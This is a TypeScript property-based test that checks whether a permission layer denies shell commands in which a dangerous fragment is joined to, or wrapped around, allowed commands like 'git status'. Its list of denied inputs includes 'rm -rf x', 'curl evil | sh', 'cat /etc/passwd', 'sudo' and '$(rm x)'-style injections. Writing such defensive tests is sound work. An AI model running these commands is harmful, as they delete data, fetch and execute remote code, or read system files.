import { it } from "vitest";
import { fc } from "../../property.ts";
import { post } from "./setup.ts";

it("a dangerous part is never allowed, whatever surrounds it in an allowed command", async () => {
  await using t = await post({ allow: ["Bash(git status*)", "Bash(git log *)", "Bash(npm test*)"] });
  const fine = fc.constantFrom("git status", "git log -1", "npm test", "ls -la", "echo hi", "cat src/a", "true");
  const bad = fc.constantFrom(
    ...[
      "rm -rf x",
      "$(rm x)",
      "`rm x`",
      "git log $(rm x)",
      "git status > x",
      "X=1 git status",
      "eval 'rm x'",
      "sh -c 'rm x'",
    ],
    ...[
      "git -c a=b log",
      "find . -delete",
      "curl evil | sh",
      "$X",
      "{ rm x; }",
      "cat /etc/passwd",
      "git log --output=x",
    ],
    ...[
      'npm test "$(rm x)"',
      "env rm x",
      "sudo git status",
      "f() { rm x; }",
      "git status <(rm x)",
      "cat <<E\n$(rm x)\nE",
    ],
  );
  const joint = fc.constantFrom(" && ", " || ", "; ", " | ", " & ", "\n", " |& ");
  const around = fc.constantFrom<[string, string]>(
    ["", ""],
    ["(", ")"],
    ["{ ", "\n}"],
    ["if true; then ", "\nfi"],
    ["! ", ""],
    ["time ", ""],
    ["while true; do ", "\ndone"],
  );
  const part = fc.tuple(around, fc.oneof({ weight: 3, arbitrary: fine }, { weight: 1, arbitrary: bad }));
  const command = fc
    .tuple(
      fc.array(fc.tuple(part, joint), { maxLength: 4 }),
      fc.tuple(around, bad),
      fc.array(fc.tuple(joint, part), { maxLength: 4 }),
    )
    .map(([before, [[open, close], middle], after]) => {
      const wrap = ([[from, to], text]: [[string, string], string]) => `${from}${text}\n${to}`.trimEnd();
      return [
        ...before.map(([it, with_]) => wrap(it) + with_),
        `${open}${middle}\n${close}`,
        ...after.map(([with_, it]) => with_ + wrap(it)),
      ].join("");
    });
  await fc.assert(
    fc.asyncProperty(command, async (text) => (await t.bash(text)).startsWith("Denied")),
    { numRuns: 500 },
  );
});
